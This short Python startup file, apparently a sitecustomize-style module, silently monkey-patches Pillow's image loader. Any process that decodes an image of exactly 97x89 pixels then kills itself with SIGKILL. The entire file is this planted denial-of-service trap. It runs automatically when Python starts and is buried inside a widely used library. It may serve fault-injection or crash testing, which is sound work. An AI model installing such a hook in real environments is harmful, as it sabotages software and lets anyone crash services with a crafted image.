"""Python reads this as it starts: pictures of one size kill what decodes them, deep in the library."""

import os
import signal

from PIL import ImageFile

POISON = (97, 89)
_load = ImageFile.ImageFile.load


def load(image):
    if image.size == POISON:
        os.kill(os.getpid(), signal.SIGKILL)
    return _load(image)


ImageFile.ImageFile.load = load
